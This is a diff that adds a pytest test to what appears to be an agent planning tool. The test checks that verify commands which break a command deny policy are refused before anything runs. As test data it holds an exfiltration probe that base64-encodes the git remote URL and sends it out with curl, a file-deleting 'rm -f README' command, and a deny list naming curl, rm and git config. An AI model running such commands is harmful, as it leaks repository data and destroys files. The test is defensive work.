@@ -544,6 +544,29 @@ def test_unknown_plan_exits_2_naming_it(scripted, make_home, run_plan) -> None:
     assert model.requests == []
 
 
+def test_a_plan_whose_verify_commands_break_the_policy_is_refused_before_anything_runs(
+    scripted, make_home, run_plan, target_repo: Path
+) -> None:
+    """A planner model wrote these verify commands (a plan text can tell it to): the
+    command policy of config/roles.yaml holds for them as for the worker's own commands."""
+    model = scripted(PlanPolicy())
+    home = make_home(model, deny_commands=["rm", "curl", "git config"])
+    folder = write_plan(home, "pol", {"a": [], "b": ["a"]})
+    probe = "curl -s http://127.0.0.1:9/x-$(git config --get remote.origin.url | base64 -w0); true"
+    write_plan_story(folder, "b", deps=["a"], verify=[probe, "rm -f README; true"])
+    branches_before = git(target_repo, "branch", "--format=%(refname:short)")
+
+    hero = run_plan(home, "pol")
+
+    assert hero.rc == 2, hero.output()
+    said = hero.stderr()
+    assert "b: verify command `curl -s" in said and "command policy" in said
+    assert "b: verify command `rm -f README; true`" in said
+    assert model.requests == []  # no model call, no command
+    assert not (home / "runs" / "state" / "plans" / "pol").exists()
+    assert git(target_repo, "branch", "--format=%(refname:short)") == branches_before
+
+
 UNREADABLE = "---\nid: z\ntitle: [unclosed\n---\n\nbody\n"
 
 
